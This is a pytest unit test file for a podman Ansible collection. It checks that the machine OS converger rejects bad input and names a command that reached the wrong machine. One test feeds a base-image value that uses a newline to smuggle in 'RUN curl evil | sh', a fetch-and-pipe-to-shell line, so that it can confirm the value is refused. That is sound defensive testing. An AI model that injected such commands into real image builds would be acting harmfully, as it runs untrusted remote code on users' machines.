# -*- coding: utf-8 -*-
# SPDX-License-Identifier: GPL-3.0-or-later
"""The machine OS converger's guards, against a runner that answers with recorded podman output."""
from __future__ import annotations

import pytest

from ansible_collections.machinist.podman.plugins.module_utils._host.runner import CommandResult, LocalFiles
from ansible_collections.machinist.podman.plugins.module_utils._machine.client import MachineError
from ansible_collections.machinist.podman.plugins.module_utils._machine_os import plan as os_plan
from ansible_collections.machinist.podman.plugins.module_utils._machine_os.converge import MachineOSConverger
from ansible_collections.machinist.podman.tests.unit.plugins.module_utils._machine.test_converge import client, running_inspect


def test_a_bad_base_image_is_refused_before_podman_is_asked(tmp_path, monkeypatch):
    monkeypatch.setattr(LocalFiles, 'file_identity', lambda self, exe: 'fixed')
    c, runner = client('5.8.6', [], tmp_path)
    with pytest.raises(os_plan.MachineOSError, match='base_image'):
        MachineOSConverger(c).converge('rec-a', ['htop'], base_image='quay.io/x\nRUN curl evil | sh')
    assert runner.commands() == []


def test_a_command_that_reached_the_default_machine_is_named(tmp_path, monkeypatch):
    monkeypatch.setattr(LocalFiles, 'file_identity', lambda self, exe: 'fixed')
    refused = CommandResult([], os_plan.WRONG_MACHINE, '', 'machinist.podman: podman machine ssh ran this command in another '
                            'machine than rec-a\n', 0)
    c, runner = client('5.8.6', [(['machine', 'inspect'], running_inspect('5.8.6')), (['machine', 'ssh'], refused)],
                       tmp_path)
    with pytest.raises(MachineError, match='machine rec-a is gone or was renamed while this task ran'):
        MachineOSConverger(c).converge('rec-a', ['htop'])
    assert [cmd[2] for cmd in runner.commands()] == ['inspect', 'ssh']
